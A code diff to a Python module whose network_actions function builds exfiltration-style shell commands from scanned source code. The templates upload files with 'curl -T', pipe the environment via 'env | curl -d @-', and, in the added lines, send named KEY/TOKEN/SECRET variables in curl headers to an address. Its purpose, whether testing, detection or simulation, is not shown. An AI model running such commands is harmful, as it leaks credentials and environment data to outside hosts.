@@ -29,8 +29,11 @@ _ENVIRONMENT = lazy_pattern(
 )
 # Names of the environment that hold a secret.
 _SECRET_VARIABLE = lazy_pattern(
-    r"(?:environ(?:\.get\(|\[)|getenv\(|process\.env\.|ENV\[|\$ENV\{)\s*[\"']?\w*(?:KEY|TOKEN|SECRET|PASSW)\w*"
+    r"(?:environ(?:\.get\(|\[)|getenv\(|process\.env\.|ENV\[|\$ENV\{)\s*[\"']?(\w*(?:KEY|TOKEN|SECRET|PASSW)\w*)"
 )
+
+
+MOST_NAMED = 10
 
 
 def network_actions(code: str, texts: Sequence[str]) -> Iterator[str]:
@@ -47,3 +50,6 @@ def network_actions(code: str, texts: Sequence[str]) -> Iterator[str]:
             yield f"curl -T {path_of(text)} {path_of(address)}"
     if _ENVIRONMENT.search(code):
         yield f"env | curl -d @- {path_of(address)}"
+    # As in a header: a token is told to the host that it is for.
+    named = dict.fromkeys(_SECRET_VARIABLE.findall(code))
+    yield from (f'curl -H "x: ${name}" {path_of(address)}' for name in list(named)[:MOST_NAMED])
